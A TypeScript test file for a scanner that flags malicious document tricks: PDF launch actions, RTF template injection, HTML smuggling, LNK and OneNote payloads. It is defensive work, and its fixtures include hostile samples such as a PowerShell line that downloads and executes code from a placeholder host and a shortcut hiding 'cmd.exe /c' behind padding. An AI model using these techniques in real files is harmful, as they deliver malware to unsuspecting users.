import { deflateSync } from "node:zlib";
import { expect, test } from "vitest";
import { makeCfb } from "../fixture/cfb.ts";
import { looked, smallExe, told } from "../fixture/look.ts";

const exe = smallExe();
const text = (...lines: readonly string[]) => Buffer.from(lines.join("\n"), "latin1");

test.each([
  [
    "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
    ["pdf-open-action", "pdf-javascript"],
  ],
  ["/OpenAction << /S /L#61unch /F (cmd.exe) >>", ["pdf-open-action", "pdf-launch"]],
  ["/AA << /O 3 0 R >>", ["pdf-open-action"]],
  ["/Names << /EmbeddedFiles 5 0 R >>", ["pdf-embedded-file"]],
  ["/Type /Catalog /Lang (ja)", []],
])("PDF with %s", (words, marks) => {
  const pdf = text("%PDF-1.7", `1 0 obj << ${words} >> endobj`, "%%EOF");
  expect(looked(pdf, "a.pdf")).toMatchObject({ kind: "pdf", marks, unread: [] });
});

const stream = (dictionary: string, data: Buffer) =>
  Buffer.concat([
    text(`7 0 obj << ${dictionary} /Length ${data.length} >>`, "stream\n"),
    data,
    text("\nendstream", "endobj\n"),
  ]);

test("what a PDF packs away in its objects is seen", () => {
  const packed = deflateSync(Buffer.from("1 0 << /S /Launch /F (a.exe) >>"));
  const pdf = Buffer.concat([
    text("%PDF-1.7\n"),
    stream("/Type /ObjStm /Filter /FlateDecode", packed),
  ]);
  expect(looked(pdf, "a.pdf").marks).toEqual(["pdf-launch"]);
  const broken = Buffer.concat([
    text("%PDF-1.7\n"),
    stream("/Type /ObjStm /Filter /LZWDecode", packed),
  ]);
  expect(looked(broken, "a.pdf").unread).toEqual([{ path: "2", why: "not-understood" }]);
});

test("a file in a PDF is seen with the names that the PDF gives", () => {
  const file = stream("/Type /Embedded#46ile /Filter /FlateDecode", deflateSync(exe));
  const pdf = Buffer.concat([
    text(
      "%PDF-1.7\n",
      "2 0 obj << /Type /Filespec /F (memo.txt) /UF <FEFF8ACB6C4266F8002E006500780065> >> endobj\n",
    ),
    file,
  ]);
  const seen = looked(pdf, "a.pdf");
  expect(seen.marks).toContain("pdf-embedded-file");
  expect(seen.entries.map(({ names, kind }) => [...names, kind])).toEqual([
    ["memo.txt", "請求書.exe", "pe"],
  ]);
});

test("a locked PDF whose objects cannot be read is unread", () => {
  const pdf = Buffer.concat([
    text("%PDF-1.7\n"),
    stream("/Type /ObjStm", exe),
    text("trailer << /Encrypt 9 0 R >>"),
  ]);
  expect(looked(pdf, "a.pdf").unread).toEqual([{ path: "2", why: "encrypted" }]);
});

const hex = (bytes: Buffer) => bytes.toString("hex");
const lengthed = (word: string) => {
  const size = Buffer.alloc(4);
  size.writeUInt32LE(word.length + 1);
  return Buffer.concat([size, Buffer.from(`${word}\0`)]);
};
const ole1 = (className: string, data: Buffer) =>
  Buffer.concat([
    Buffer.from("0105000002000000", "hex"),
    lengthed(className),
    Buffer.alloc(8),
    Buffer.alloc(4),
    data,
  ]);

test("an object in RTF is decoded, also with words and blanks strewn into its hex", () => {
  const compound = makeCfb({ "Equation Native": Buffer.from("x") });
  const digits = hex(ole1("Equation.3", compound)).replace(/(.{60})/g, "$1\n{\\*\\x 12}\\par ");
  const rtf = text(
    `{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata ${digits.replaceAll("{\\*\\x 12}", "")}}}}`,
  );
  const seen = looked(rtf, "a.doc");
  expect(seen).toMatchObject({
    kind: "rtf",
    marks: ["rtf-object", "rtf-update", "equation"],
    evidence: ["Equation.3"],
  });
  expect(told(seen)).toEqual(["2/#1 ole equation"]);
});

test("a template from elsewhere in RTF is told and shown", () => {
  const rtf = text("{\\rtf1{\\*\\template http://192.0.2.9/a.dotm}}");
  expect(looked(rtf, "a.rtf")).toMatchObject({
    marks: ["template-injection"],
    evidence: ["http://192.0.2.9/a.dotm"],
  });
});

test("a page that builds a file in the browser is told, and the file is seen", () => {
  const page = text(
    "<html><script>",
    `var d="${Buffer.concat([exe, Buffer.alloc(1200, 65)]).toString("base64")}";`,
    "var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);",
    "a.href=URL.createObjectURL(b);a.download='x.exe';",
    "</script></html>",
  );
  const seen = looked(page, "a.html");
  expect(seen).toMatchObject({ kind: "html", marks: ["script", "html-smuggling"] });
  expect(told(seen)).toEqual(["2/#1 pe"]);
});

test.each<[string, Buffer, string, string[]]>([
  ["a plain page", text("<html><body><p>Hello</p></body></html>"), "html", []],
  ["an application", text("<hta:application id=x><script>1</script>"), "html", ["script", "hta"]],
  [
    "a file in an address",
    text(`<html><a href="data:application/x;base64,${exe.toString("base64")}">x</a>`),
    "html",
    ["data-file"],
  ],
  [
    "a form for a password",
    text("<html><form action=http://192.0.2.1/><input type=password></form>"),
    "html",
    ["password-form"],
  ],
  [
    "a page in UTF-16",
    Buffer.from("\ufeff<html><script>1</script></html>", "utf16le"),
    "html",
    ["script"],
  ],
  [
    "a picture with script",
    text('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"></svg>'),
    "svg",
    ["svg-script", "script"],
  ],
  [
    "a search elsewhere",
    text("[InternetShortcut]", "URL=file://192.0.2.9/a/b.exe"),
    "url-shortcut",
    ["protocol-trick"],
  ],
])("%s", (_, bytes, kind, marks) => {
  expect(looked(bytes)).toMatchObject({ kind, marks });
});

test.each<[string, Buffer, string[]]>([
  ["a.js", text('var s = new ActiveXObject("WScript.Shell");', "s.Run(1);"), ["looks-js"]],
  ["a.txt", text("Dim s", 'Set s = CreateObject("WScript.Shell")'), ["looks-vbs"]],
  ["a.log", text("@echo off", "start calc.exe"), ["looks-batch"]],
  [
    "a.dat",
    text("$x = New-Object Net.WebClient", 'IEX $x.DownloadString("http://192.0.2.1/")'),
    ["looks-powershell"],
  ],
  [
    "memo.txt",
    text("Please start the meeting at ten.", "The function of the committee (see below) is new."),
    [],
  ],
])("text in %s that is a program of Windows is told", (name, bytes, marks) => {
  expect(looked(bytes, name).marks).toEqual(marks);
});

test("the body of a mail may talk of programs", () => {
  expect(looked(text("@echo off", "start calc.exe")).marks).toEqual([]);
});

test("a shortcut shows what it would start", () => {
  const head = Buffer.alloc(76);
  head.write("4c0000000114020000000000c000000000000046", "hex");
  head.writeUInt32LE(0x80 | 0x20 | 0x08, 20);
  const field = (words: string) => {
    const size = Buffer.alloc(2);
    size.writeUInt16LE(words.length);
    return Buffer.concat([size, Buffer.from(words, "utf16le")]);
  };
  const lnk = Buffer.concat([head, field("..\\cmd.exe"), field(`/c${" ".repeat(300)}calc.exe`)]);
  expect(looked(lnk, "photo.jpg.lnk")).toMatchObject({
    kind: "lnk",
    marks: ["lnk", "lnk-command"],
    evidence: ["..\\cmd.exe", "/c calc.exe"],
  });
});

test("files that lie in a OneNote section are seen", () => {
  const size = Buffer.alloc(20);
  size.writeUInt32LE(exe.length);
  const file = Buffer.concat([
    Buffer.from("e4525c7b8cd8a74daeb15378d02996d3", "hex"),
    Buffer.alloc(64),
    Buffer.from("e716e3bd65261145a4c48d4d0b7a9eac", "hex"),
    size,
    exe,
  ]);
  const seen = looked(file, "a.one");
  expect(seen).toMatchObject({ kind: "onenote", marks: ["onenote-embedded"] });
  expect(told(seen)).toEqual(["2/#1 pe"]);
});
